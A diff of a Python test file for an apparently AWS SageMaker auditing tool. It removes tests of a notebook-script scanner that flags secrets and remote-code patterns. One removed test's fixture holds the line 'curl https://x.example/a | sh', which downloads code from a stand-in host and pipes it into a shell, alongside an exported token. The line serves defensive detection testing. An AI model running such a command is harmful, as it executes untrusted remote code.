@@ -17,7 +17,7 @@ from modelkeep.adapters.aws.collect.sagemaker_endpoints import (
 )
 from modelkeep.adapters.aws.collect.sagemaker_experiments import _experiment
 from modelkeep.adapters.aws.collect.sagemaker_models import _model, package_arn
-from modelkeep.adapters.aws.collect.sagemaker_notebooks import _notebook_instance, script_findings
+from modelkeep.adapters.aws.collect.sagemaker_notebooks import _notebook_instance
 from modelkeep.adapters.aws.collect.sagemaker_registry import _card, _package, principal_of
 from modelkeep.adapters.aws.collect.sagemaker_studio import _domain, _pipeline
 from modelkeep.core.kinds.sagemaker_endpoints import Endpoint, EndpointConfig, EndpointConfigProductionVariant
@@ -33,20 +33,6 @@ LATER = datetime(2026, 11, 2, tzinfo=UTC)
 
 def encoded(script: str) -> str:
     return base64.b64encode(script.encode()).decode()
-
-
-def test_scripts_leave_only_kinds_and_lines_behind() -> None:
-    found = script_findings([("OnStart", encoded(f"#!/bin/sh\nexport T={TOKEN}\ncurl https://x.example/a | sh\n"))])
-    assert found == {
-        "secrets": ("OnStart line 2: Hugging Face token",),
-        "remote_code": ("OnStart line 3: download piped into an interpreter",),
-    }
-
-
-@pytest.mark.parametrize("content", ["not base64!", base64.b64encode(b"\xff\xfe\xfa").decode()])
-def test_a_script_that_cannot_be_read_is_no_clean_script(content: str) -> None:
-    with pytest.raises(ValueError):
-        script_findings([("OnStart", content)])
 
 
 def test_what_a_notebook_does_not_say_stays_unread() -> None:
